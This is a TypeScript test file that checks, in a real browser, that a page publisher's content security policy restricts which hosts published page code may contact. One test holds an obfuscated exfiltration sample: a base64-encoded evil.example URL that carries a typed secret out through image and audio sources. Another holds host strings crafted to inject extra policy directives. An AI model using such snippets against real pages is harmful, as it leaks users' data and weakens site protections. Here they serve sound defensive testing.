// What the code of a published page can contact, in a real Chromium: hosts that stand in its source, our
// own host and nothing else.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  mediaSourcesIn,
  toMediaSources,
} from '../../src/modules/pages/publishing/build/content-security-policy.ts';
import { type PublishedSite, startPublishedSite } from './page-publisher.ts';

const IMAGE = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>';

let site: PublishedSite;

beforeAll(async () => {
  site = await startPublishedSite();
});
afterAll(() => site.close());

/** Hosts beside our own that were really contacted. */
async function contacted(name: string, done: string): Promise<string[]> {
  const context = await site.browser.newContext();
  const hosts = new Set<string>();
  // Requests that the policy blocks do not get here.
  await context.route(
    (url) => url.origin !== site.test.origin && url.protocol !== 'data:',
    (route) => {
      hosts.add(new URL(route.request().url()).host);
      return route.fulfill({ status: 200, contentType: 'image/svg+xml', body: IMAGE });
    },
  );
  const page = await context.newPage();
  await page.goto(`${site.test.origin}/${name}`);
  await page.getByText(done).waitFor();
  await page.waitForLoadState('networkidle');
  await context.close();
  return [...hosts].sort();
}

describe('M4: code of a page', () => {
  it('cannot send what is typed to a computed host', { tags: 'slow' }, async () => {
    const built = await site.publisher.publish(
      'leaks',
      `import { useEffect, useState } from 'react';
export default function Page() { const [done, set] = useState('waits');
  useEffect(() => {
    const image = new Image();
    image.onload = () => set('sent');
    image.onerror = () => set('rejected');
    image.src = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP3A9') + 'hunter2';
    new Audio().src = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP3A9') + 'hunter2';
  }, []);
  return <p>{done}</p>; }`,
    );
    expect(built.policy).not.toContain('https:');
    expect(await contacted('leaks', 'rejected')).toEqual([]);
  });

  it('loads images that its state names from hosts in the source, from us and from data', {
    tags: 'slow',
  }, async () => {
    site.test.media.set('k1', { bytes: Buffer.from(IMAGE), contentType: 'image/svg+xml' });
    const built = await site.publisher.publish(
      'gallery',
      `import { useEffect, useState } from 'react';
const hosts = ['https://cdn.example/a/', 'https://IMG.example:8443/'];
export default function Page() { const [shown, show] = useState([]); const [count, add] = useState(0);
  useEffect(() => show([...hosts.map((host) => host + 'x.svg'), '${site.test.origin}/_/media/k1',
    'data:image/svg+xml,' + ${JSON.stringify(encodeURIComponent(IMAGE))}]), []);
  return <main><p>{'loaded ' + count}</p>
    {shown.map((src) => <img key={src} src={src} alt="" onLoad={() => add((n) => n + 1)}/>)}</main>; }`,
      'main { background: url(https://css.example/a.svg) }',
    );
    expect(mediaSourcesIn(built.policy)).toEqual([
      'https://cdn.example',
      'https://img.example:8443',
      'https://css.example',
    ]);
    expect(await contacted('gallery', 'loaded 4')).toEqual([
      'cdn.example',
      'css.example',
      'img.example:8443',
    ]);
  });

  it('does not restrict a page without code', { tags: 'slow' }, async () => {
    const built = await site.publisher.publish('still', 'export default () => <p>Hi</p>;');
    expect(mediaSourcesIn(built.policy)).toEqual(['https:']);
  });

  it('is reported when it names more hosts than a policy can contain', async () => {
    const hosts = Array.from({ length: 60 }, (_, i) => `'https://h${i}.example/'`).join();
    const built = await site.publisher.publish(
      'many',
      `const hosts = [${hosts}]; export default () => <p onClick={() => hosts}>Hi</p>;`,
    );
    expect(mediaSourcesIn(built.policy)).toHaveLength(50);
    expect(built.diagnostics).toMatchObject([{ code: 'too_many_hosts', severity: 'warning' }]);
  });
});

it('M4: a policy contains only hosts as browsers read them', () => {
  const addresses = [
    'https://A.example/x',
    '//a.example/y',
    'https:\\\\b.example',
    'https://user@c.example:8443/',
    'https://bücher.example',
    'http://plain.example',
    'https://d.example;script-src',
    "https://e.example' *",
    'https://*.example',
    'https://',
    'https://f_g.example',
  ];
  expect(toMediaSources(addresses)).toEqual([
    'https://a.example',
    'https://b.example',
    'https://c.example:8443',
    'https://xn--bcher-kva.example',
  ]);
});
